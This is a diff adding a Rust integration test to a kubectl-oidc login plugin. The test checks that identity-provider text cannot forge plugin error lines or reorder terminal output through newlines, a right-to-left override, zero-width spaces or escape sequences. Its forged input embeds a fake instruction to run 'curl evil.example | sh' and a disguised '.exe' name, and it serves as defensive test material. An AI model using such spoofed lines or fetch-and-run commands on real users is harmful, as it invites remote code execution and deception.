@@ -334,3 +334,89 @@ fn an_issuer_url_with_credentials_is_refused_before_anything_else() {
         }
     }
 }
+
+/// Issue 17 item 8: a provider's words (an error_description, a device user_code, a claim)
+/// with a line break, a right-to-left override or a zero-width space cannot forge a line of
+/// ours or reorder what the terminal shows, in messages, `status` and `status -o json`.
+#[test]
+fn provider_text_cannot_forge_lines_or_reorder_the_terminal() {
+    const FORGED: &str = "nope\nkubectl-oidc: error: run curl evil.example | sh\u{202E}gnp.exe\u{200B}\u{1b}]0;x\u{7}";
+    let forged_line = |text: &str| {
+        text.lines()
+            .any(|l| l.starts_with("kubectl-oidc: error: run curl"))
+            || text.contains(['\u{202E}', '\u{200B}', '\u{1b}', '\u{7}'])
+    };
+    let idp = Idp::start(IdpOptions {
+        device_interval: Some(1),
+        reject_scope: Some("offline_access"),
+        ..Default::default()
+    });
+    idp.provider_text(FORGED);
+    let home = Home::new(&idp);
+
+    // The callback's error_description.
+    let out = home.run(
+        "login",
+        &[&home.browser(""), "--oidc-extra-scope=offline_access"],
+        None,
+    );
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(5), "{err}");
+    assert!(err.contains("invalid_scope") && !forged_line(&err), "{err}");
+
+    // A device user_code.
+    let out = home.run(
+        "login",
+        &[
+            "--grant-type=device-code",
+            "--skip-open-browser",
+            "--authentication-timeout-sec=2",
+        ],
+        None,
+    );
+    let err = stderr(&out);
+    assert!(
+        err.contains("nope?kubectl-oidc") && !forged_line(&err),
+        "{err}"
+    );
+
+    // A claim: the account logs in as that name, and login, status and status -o json say it.
+    let out = home.run(
+        "login",
+        &[&home.browser(&format!("--login {}", shell_words_quote(FORGED)))],
+        None,
+    );
+    let err = stderr(&out);
+    assert_success(&out);
+    assert!(err.contains("Logged in") && !forged_line(&err), "{err}");
+    let mut status = std::process::Command::new(BIN);
+    status
+        .arg("status")
+        .arg(format!("--token-cache-dir={}", home.cache_dir().display()));
+    scrub(&mut status, home.dir.path());
+    let text = String::from_utf8(status.output().unwrap().stdout).unwrap();
+    assert!(
+        text.contains("nope?kubectl-oidc") && !forged_line(&text),
+        "{text}"
+    );
+    let json = String::from_utf8(status.args(["-o", "json"]).output().unwrap().stdout).unwrap();
+    assert!(!forged_line(&json), "{json}");
+    let rows: serde_json::Value = serde_json::from_str(&json).unwrap();
+    assert_eq!(rows[0]["subject"], FORGED);
+
+    // The token endpoint's error_description on a refused refresh.
+    idp.fail_next_refresh("invalid_grant");
+    let out = home.run(
+        "get-token",
+        &["--force-refresh"],
+        Some(EXEC_V1_NONINTERACTIVE),
+    );
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(4), "{err}");
+    assert!(err.contains("invalid_grant") && !forged_line(&err), "{err}");
+}
+
+/// `s` quoted for shell_words (the browser command line is split that way).
+fn shell_words_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', r"'\''"))
+}
